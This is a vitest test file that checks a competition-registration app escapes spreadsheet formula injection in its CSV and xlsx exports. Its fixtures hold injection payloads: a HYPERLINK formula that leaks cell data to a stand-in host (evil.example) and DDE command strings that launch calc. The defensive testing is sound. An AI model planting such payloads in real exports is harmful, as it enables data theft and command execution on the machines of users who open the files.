import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralisedCell } from '../src/domain/streaming/formula-guard';
import { sheetWriter } from '../src/domain/streaming/writers';
import { competition, snapshot } from './fixtures';
import { openInLibreOffice, parseCsv, startExport, type ExportHarness, type Role } from './harness';

/**
 * Spreadsheet formula injection (issue 20 item 7): every free-text column of every export carries
 * a value that a spreadsheet would run as a formula or command; each must arrive as text with
 * OWASP's leading quote, CSV and xlsx alike, while ordinary names stay as they are.
 */
const HOSTILE = {
  clubName: '=HYPERLINK("http://evil.example/?leak="&A2;"Verein")',
  clubAddress: "+cmd|' /C calc'!A0",
  clubCity: '-1+2',
  bmd: '@SUM(1;2)',
  competitionName: '=1+1',
  competitionCity: '\t=1+2',
  typeName: '-Typ',
  state: '=W',
  squadName: '@Squad',
  standName: '=Stand',
  firstName: "=cmd|' /C calc'!A0",
  lastName: '+1+1',
  email: '-x@example.org',
  ipscNumber: '=1+3',
  ipscRegion: '\t=1+4',
  /** a carriage return is kept by CSV; XML turns it into a line feed in xlsx */
  crName: '\r=1+5',
  alias: '@alias',
  username: '-user',
  division: '=Division',
  /** a category PractiScore's Age column takes (exports/practiscore.ts) */
  competitionClass: '+Class Senior',
  factor: '-Factor',
  level: '@Level',
  advertName: '=ad',
  advertShort: '+ad',
  buttonText: '-Mehr',
  buttonLink: '@link',
} as const;
type Field = keyof typeof HOSTILE;

const FORMULA_START = /^[=+\-@\t\r]/;
const day = 86_400_000;

let h: ExportHarness;

beforeAll(async () => {
  h = await startExport();
  await h.publish('catalog.club.upserted', 1, {
    id: 1,
    name: HOSTILE.clubName,
    longName: HOSTILE.clubName,
    address: HOSTILE.clubAddress,
    zip: '1210',
    city: HOSTILE.clubCity,
    country: 'at',
    bmdAccountNumber: HOSTILE.bmd,
    active: true,
  });
  for (const [resource, id, name] of [
    ['divisions', 11, HOSTILE.division],
    ['competitionClasses', 21, HOSTILE.competitionClass],
    ['factors', 31, HOSTILE.factor],
    ['levels', 41, HOSTILE.level],
  ] as const)
    await h.publish('catalog.reference-data.upserted', 1, { resource, id, name });
  const over = {
    name: HOSTILE.competitionName,
    city: HOSTILE.competitionCity,
    state: HOSTILE.state,
    competitionType: { id: 1, name: HOSTILE.typeName, signupReservationTimeout: 300, event: false },
    level: { id: 41, name: HOSTILE.level },
  };
  const squad = { id: 1000, name: HOSTILE.squadName, stands: [{ id: 5001, name: HOSTILE.standName }] };
  const future = new Date(Date.now() + 30 * day).toISOString();
  const past = new Date(Date.now() - 30 * day).toISOString();
  await h.publish('catalog.competition.upserted', 1, competition(100, 1, future, [squad], over));
  await h.publish(
    'catalog.competition.upserted',
    1,
    competition(300, 1, past, [{ id: 3000, name: HOSTILE.squadName }], over),
  );
  const hostileItem = {
    firstName: HOSTILE.firstName,
    lastName: HOSTILE.lastName,
    userId: 501,
    divisionId: 11,
    competitionClassId: 21,
    factorId: 31,
    paid: true,
  };
  for (const item of [
    { itemId: 1, competitionId: 100, squadId: 1000, squadStandId: 5001, ...hostileItem },
    { itemId: 2, competitionId: 100, squadId: 1000, firstName: 'Anna', lastName: 'Ämter' },
    { itemId: 4, competitionId: 100, squadId: 1000, firstName: HOSTILE.crName, lastName: 'Zeile' },
    { itemId: 3, competitionId: 300, squadId: 3000, ...hostileItem },
  ])
    await h.publish('registration.order-item.upserted', item.itemId, {
      ...snapshot(item),
      email: item.firstName === 'Anna' ? 'anna@example.org' : HOSTILE.email,
      state: HOSTILE.state,
    });
  await h.publish('registration.reservation-code.upserted', 8001, {
    id: 8001,
    code: 'CODE-8001',
    competitionId: 100,
    clubId: 1,
    createdAt: new Date().toISOString(),
    used: false,
    usedAt: null,
    orderItemId: null,
  });
  await h.publish('identity.user.upserted', 1, {
    userId: 501,
    username: HOSTILE.username,
    email: HOSTILE.email,
    firstName: HOSTILE.firstName,
    lastName: HOSTILE.lastName,
    ipscNumber: HOSTILE.ipscNumber,
    ipscRegion: HOSTILE.ipscRegion,
    ipscAlias: null,
    alias: HOSTILE.alias,
    locale: 'de',
    clubId: 1,
    roles: ['ROLE_USER'],
    active: true,
    enabled: true,
    paymentUntil: null,
    notificationSelection: {},
    divisionIds: [],
  });
  await h.publish('catalog.advertising.upserted', 1, {
    id: 7,
    publicId: 'ad-7',
    active: true,
    name: HOSTILE.advertName,
    shortName: HOSTILE.advertShort,
    text: null,
    image: null,
    detailImage: null,
    fromDate: '2026-01-01T00:00:00.000Z',
    toDate: '2026-12-31T00:00:00.000Z',
    buttonText: HOSTILE.buttonText,
    buttonLink: HOSTILE.buttonLink,
    detailView: false,
    clicks: 3,
    createdAt: '2026-01-01T00:00:00.000Z',
  });
});
afterAll(async () => {
  await h?.stop();
});

async function download(role: Role, path: string, init: RequestInit = {}) {
  const { response, bytes } = await h.call(role, path, init);
  expect(response.status, bytes.toString()).toBe(200);
  return bytes;
}

/** No cell starts like a formula, and each named field's value is there as quoted text. */
function expectNeutralised(cells: string[], fields: Field[], where: string) {
  expect(
    cells.filter((cell) => FORMULA_START.test(cell)),
    `${where}: cells that start like a formula`,
  ).toEqual([]);
  for (const field of fields) expect(cells, `${where}: ${field}`).toContain(`'${HOSTILE[field]}`);
}

/** Every cell of every sheet as exceljs reads it back; a formula cell fails the test. */
async function xlsxCells(bytes: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address} is no formula`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
  return cells;
}

const run = promisify(execFile);

/**
 * Opens a CSV in LibreOffice with formula evaluation ON (as a user's import dialog may have it)
 * and answers the cells as shown: an unescaped `=1+1` would come back as `2`.
 */
async function csvInLibreOffice(bytes: Buffer, separator: string): Promise<string[][]> {
  const dir = await mkdtemp(join(tmpdir(), 'lo-csv-'));
  try {
    await writeFile(join(dir, 'in.csv'), bytes);
    const sep = separator.charCodeAt(0);
    await run(
      'libreoffice',
      [
        `-env:UserInstallation=file://${dir}/profile`,
        '--headless',
        `--infilter=CSV:${sep},34,76,1,,0,false,true,false,false,false,-1,true`,
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false',
        '--outdir',
        join(dir, 'out'),
        join(dir, 'in.csv'),
      ],
      { timeout: 120_000 },
    );
    return parseCsv(await readFile(join(dir, 'out', 'in.csv'), 'utf8'));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** The fields whose value LibreOffice shows unchanged (no leading tab or line break). */
const printable = (fields: Field[]) => fields.filter((f) => !/^[\t\r]/.test(HOSTILE[f]));

describe('CSV exports', () => {
  const PRACTISCORE: Field[] = [
    'firstName',
    'lastName',
    'email',
    'division',
    'factor',
    'competitionClass',
    'ipscNumber',
    'alias',
  ];

  it('when a club admin exports PractiScore, then every hostile cell is quoted text, the ordinary row unchanged, and LibreOffice evaluates none', async () => {
    const bytes = await download('clubAdmin', '/api/exports/practiScore?competitionId=100');
    const text = bytes.toString('utf8');
    const rows = parseCsv(text);
    expectNeutralised(rows.flat(), [...PRACTISCORE, 'crName'], 'practiScore');
    // OWASP: the neutralised field is also quoted
    expect(text).toContain(`"'${HOSTILE.lastName}"`);
    // PractiScore's squads are numbers, so a hostile squad name never reaches the file
    expect(rows.find((r) => r[0] === 'Anna')!.slice(0, 4)).toEqual([
      'Anna',
      'Ämter',
      'anna@example.org',
      '1',
    ]);
    const shown = await csvInLibreOffice(bytes, ',');
    expectNeutralised(shown.flat(), printable(PRACTISCORE), 'practiScore in LibreOffice');
    expect(shown.flat()).not.toContain('2');
  });

  it('when the stand variant is exported, then every hostile cell is quoted text and stands are squad numbers', async () => {
    const rows = parseCsv(
      (await download('clubAdmin', '/api/exports/practiScoreStand?competitionId=100')).toString('utf8'),
    );
    expectNeutralised(rows.flat(), PRACTISCORE, 'practiScoreStand');
    expect(rows.flat()).not.toContain(`'${HOSTILE.standName}`);
  });

  it('when an admin exports the competitions CSV, then the club and competition texts are quoted text', async () => {
    const bytes = await download('admin', '/api/exports/competitionsCsv?ids=100,300');
    const fields: Field[] = ['clubName', 'clubAddress', 'clubCity', 'bmd', 'competitionName', 'typeName'];
    expectNeutralised(parseCsv(bytes.toString('utf8'), ';').flat(), fields, 'competitionsCsv');
    const shown = await csvInLibreOffice(bytes, ';');
    expectNeutralised(shown.flat(), fields, 'competitionsCsv in LibreOffice');
  });
});

describe('xlsx exports', () => {
  const REGISTRATION: Field[] = [
    'competitionName',
    'squadName',
    'standName',
    'firstName',
    'lastName',
    'email',
    'clubName',
    'division',
    'competitionClass',
    'factor',
    'state',
  ];
  const cases: [Role, string, Field[], RequestInit?][] = [
    ['clubAdmin', '/api/exports/allCompetitors', REGISTRATION],
    ['clubAdmin', '/api/exports/orderItems?competitionId=100', REGISTRATION],
    ['clubAdmin', '/api/exports/reservstionCodes', ['competitionName']],
    [
      'portalAdmin',
      '/api/exports/allUsers',
      ['username', 'email', 'firstName', 'lastName', 'clubName', 'ipscNumber', 'ipscRegion', 'alias'],
    ],
    [
      'admin',
      '/api/exports/advertisements?from=2026-06-01&to=2026-06-30',
      ['advertName', 'advertShort', 'buttonText', 'buttonLink'],
    ],
    [
      'admin',
      '/api/exports/adminCompetitions?exportSquads=true&exportOrderItems=true',
      ['clubName', 'competitionName', 'typeName', 'competitionCity', ...REGISTRATION],
      {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ clubs: [1] }),
      },
    ],
    [
      'shooter',
      '/api/exports/competitions',
      ['state', 'competitionCity', 'clubName', 'competitionName', 'level', 'typeName'],
    ],
    ['shooter', '/api/exports/results', ['competitionName', 'clubName', 'level']],
    ['shooter', '/api/exports/competitors?competitionId=100', ['firstName', 'lastName', 'squadName']],
    ['shooter', '/api/exports/userBookedArchivedCompetitions', ['competitionName', 'clubName']],
  ];

  it.each(cases)(
    'when %s downloads %s, then each hostile text is a quoted string cell, never a formula',
    async (role, path, fields, init) => {
      const bytes = await download(role, path, init);
      expectNeutralised(await xlsxCells(bytes), fields, path);
    },
  );

  it('when LibreOffice opens an xlsx export, then the hostile names show as typed, with the quote', async () => {
    const rows = await openInLibreOffice(await download('clubAdmin', '/api/exports/allCompetitors'));
    expectNeutralised(rows.flat(), printable(REGISTRATION), 'allCompetitors in LibreOffice');
  });
});

describe('the one escaping rule', () => {
  it('when a cell is a number, date or boolean, then it keeps its type; text starting like a formula gets the quote', () => {
    const when = new Date();
    expect(neutralisedCell(-5)).toBe(-5);
    expect(neutralisedCell(when)).toBe(when);
    expect(neutralisedCell(true)).toBe(true);
    expect(neutralisedCell(null)).toBe(null);
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1'].map(neutralisedCell)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@1",
      "'\t1",
      "'\r1",
    ]);
    expect(['Anna', 'Ämter', 'O’Neil', "D'Arc", '1-2', ' =1'].map(neutralisedCell)).toEqual([
      'Anna',
      'Ämter',
      'O’Neil',
      "D'Arc",
      '1-2',
      ' =1',
    ]);
  });

  it('when a writer gets a negative number and a text starting with a minus, then the CSV has the number bare and the text quoted; the xlsx a number cell', async () => {
    const csv = await written('csv', [[-5, '-5', 'plain']]);
    expect(csv.toString('utf8')).toBe(`Zahl,Text,Name\r\n-5,"'-5",plain\r\n`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await written('xlsx', [[-5, '-5', 'plain']])) as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]).toEqual([-5, "'-5", 'plain']);
  });
});

async function written(format: 'csv' | 'xlsx', rows: unknown[][]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const writer = sheetWriter(format, out);
  await writer.startSheet('Test', [{ header: 'Zahl' }, { header: 'Text' }, { header: 'Name' }]);
  await writer.writeRows(rows);
  await writer.finish();
  return Buffer.concat(chunks);
}
